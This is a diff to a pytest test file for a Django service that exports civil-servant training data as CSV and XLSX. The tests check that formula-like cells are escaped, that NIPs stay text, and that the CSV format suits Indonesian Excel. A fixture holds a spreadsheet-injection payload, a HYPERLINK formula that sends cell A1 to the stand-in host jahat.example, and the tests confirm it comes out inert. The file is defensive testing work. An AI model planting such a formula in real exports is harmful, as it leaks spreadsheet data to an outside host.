@@ -8,6 +8,7 @@ import pytest
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
+from companion_service.core.tabular import cell_text
 from companion_service.evaluation.siasn import FIELDS
 
 
@@ -17,16 +18,21 @@ def evaluator(client, make_user):
     return client
 
 
+def csv_rows(response, delimiter=";") -> list[list[str]]:
+    """A CSV download's rows, identifiers (``="…"``) read as the companion's importers read them."""
+    text = response.content.decode("utf-8-sig")
+    return [[cell_text(cell) for cell in row] for row in csv.reader(io.StringIO(text), delimiter=delimiter)]
+
+
 def pdf_text(response) -> str:
     return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
 
 
 def test_csv_table_has_the_numbers_of_the_page(data, evaluator):
-    response = evaluator.get("/evaluasi/unduh/scorecard/coverage.csv?year=2026")
+    response = evaluator.get("/evaluasi/unduh/scorecard/coverage.csv?year=2026&sep=comma")
     assert response["Content-Type"].startswith("text/csv")
     assert 'filename="bina-asn-scorecard-coverage-2026.csv"' in response["Content-Disposition"]
-    text = response.content.decode("utf-8-sig")
-    rows = list(csv.reader(io.StringIO(text)))
+    rows = csv_rows(response, ",")
     assert rows[0] == [
         "Ukuran",
         "Porsi (%)",
@@ -46,20 +52,15 @@ def test_xlsx_table_opens_with_numbers(data, evaluator):
 
 
 def test_suppressed_cells_are_empty_in_downloads(data, evaluator):
-    rows = list(
-        csv.reader(
-            io.StringIO(
-                evaluator.get("/evaluasi/unduh/scorecard/opds.csv?year=2026").content.decode("utf-8-sig")
-            )
-        )
-    )
+    rows = csv_rows(evaluator.get("/evaluasi/unduh/scorecard/opds.csv?year=2026"))
     dinsos = next(row for row in rows if row[1] == "DINSOS")
     assert dinsos[2] == "4" and dinsos[3:6] == ["", "", ""]
 
 
 def test_siasn_export(data, evaluator):
     response = evaluator.get("/evaluasi/unduh/siasn-riwayat-kursus.csv?year=2026&opd=DISDUKCAPIL")
-    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    table = csv_rows(response)
+    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
     assert list(rows[0]) == ["nipBaru", *FIELDS, "keteranganJp"]  # BKN's fields, then the review column
     a01 = [
         row
@@ -84,11 +85,7 @@ def test_siasn_export(data, evaluator):
 
 
 def test_whole_ledger_export(data, evaluator):
-    rows = list(
-        csv.reader(
-            io.StringIO(evaluator.get("/evaluasi/unduh/jp.csv?year=2026&short=1").content.decode("utf-8-sig"))
-        )
-    )
+    rows = csv_rows(evaluator.get("/evaluasi/unduh/jp.csv?year=2026&short=1"))
     assert len(rows) == 1 + 12  # ASN below 20 JP: 6 in DISDUKCAPIL, 2 in RSUD, 4 in DINSOS
     assert rows[0][-3:] == ["Jumlah JP", "Di antaranya perkiraan", "Kekurangan JP dari 20"]
     a05 = next(row for row in rows if row[0] == data.asn["a05"].nip)
@@ -126,3 +123,75 @@ def test_english_pages_and_unknown_downloads(data, evaluator):
     assert evaluator.get("/evaluasi/unduh/scorecard/nope.csv").status_code == 404
     assert evaluator.get("/evaluasi/unduh/nope/coverage.csv").status_code == 404
     assert evaluator.get("/evaluasi/unduh/scorecard/coverage.exe").status_code == 404
+
+
+# --- issue 15: formulas stay inert, NIPs stay text, CSV for Indonesian Excel ---------------------
+
+HOSTILE_TITLE = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik di sini")'
+
+
+@pytest.fixture
+def hostile_idea(db):
+    from companion_service.evaluation.refresh import refresh
+    from companion_service.openedx_sync.models import Idea
+
+    from . import golden
+
+    built = golden.build()
+    Idea.objects.filter(remote_id=1).update(
+        title=HOSTILE_TITLE, program={"kpi": "-5 menit", "kpi_target": "@15"}
+    )
+    assert refresh("test").status == "ok"
+    return built
+
+
+@pytest.mark.parametrize("sep", ["semicolon", "comma"])
+def test_idea_titled_as_a_formula_reaches_the_innovation_csv_inert(hostile_idea, evaluator, sep):
+    response = evaluator.get(f"/evaluasi/unduh/innovation/top.csv?year=2026&sep={sep}")
+    delimiter = ";" if sep == "semicolon" else ","
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))
+    titles = [row[0] for row in rows[1:]]
+    assert "'" + HOSTILE_TITLE in titles and HOSTILE_TITLE not in titles
+    hostile = next(row for row in rows if row[0] == "'" + HOSTILE_TITLE)
+    assert hostile[-2:] == ["'-5 menit", "'@15"]
+    for row in rows:
+        for cell in row:
+            assert cell[:1] not in "=+@\t\r" or not cell, cell
+
+
+def test_idea_titled_as_a_formula_reaches_the_innovation_xlsx_as_text(hostile_idea, evaluator):
+    response = evaluator.get("/evaluasi/unduh/innovation/top.xlsx?year=2026")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    title = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
+    assert (title.value, title.data_type) == ("'" + HOSTILE_TITLE, "s")
+
+
+def test_csv_follows_indonesian_excel_by_default(data, evaluator):
+    text = evaluator.get("/evaluasi/unduh/scorecard/coverage.csv?year=2026").content
+    assert text.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))
+    assert rows[4][0] == "Minimal 20 JP" and rows[4][1] == "40,0"  # decimal comma
+    comma = evaluator.get("/evaluasi/unduh/scorecard/coverage.csv?year=2026&sep=comma").content
+    rows = list(csv.reader(io.StringIO(comma.decode("utf-8-sig"))))
+    assert rows[4][1] == "40.0"
+
+
+def test_nips_are_text_in_ledger_downloads(data, evaluator):
+    nip = data.asn["a01"].nip
+    text = evaluator.get("/evaluasi/unduh/jp.csv?year=2026").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert [f'="{nip}"'] == [row[0] for row in rows if row[0].endswith(f'{nip}"')]
+    book = load_workbook(io.BytesIO(evaluator.get("/evaluasi/unduh/jp.xlsx?year=2026").content))
+    cell = next(row[0] for row in book.active.iter_rows(min_row=2) if row[0].value == nip)
+    assert (cell.data_type, cell.number_format) == ("s", "@")
+    siasn = evaluator.get("/evaluasi/unduh/siasn-riwayat-kursus.csv?year=2026&sep=comma").content
+    first = list(csv.DictReader(io.StringIO(siasn.decode("utf-8-sig"))))[0]
+    assert first["nipBaru"].startswith('="') and len(first["nipBaru"]) == 21
+
+
+def test_download_links_recommend_xlsx(data, evaluator):
+    page = evaluator.get("/evaluasi/inovasi/?year=2026").content.decode()
+    assert "XLSX (disarankan)" in page
+    assert "sep=semicolon" in page and "sep=comma" in page
